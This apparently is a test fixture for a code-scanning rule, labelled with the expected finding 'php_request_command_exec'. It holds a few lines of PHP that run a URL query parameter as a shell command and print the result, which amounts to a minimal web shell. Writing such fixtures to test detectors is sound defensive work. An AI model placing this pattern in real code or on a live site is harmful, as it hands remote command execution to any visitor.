<?php
// want: php_request_command_exec
$c = $_GET['c'];
echo `$c`;
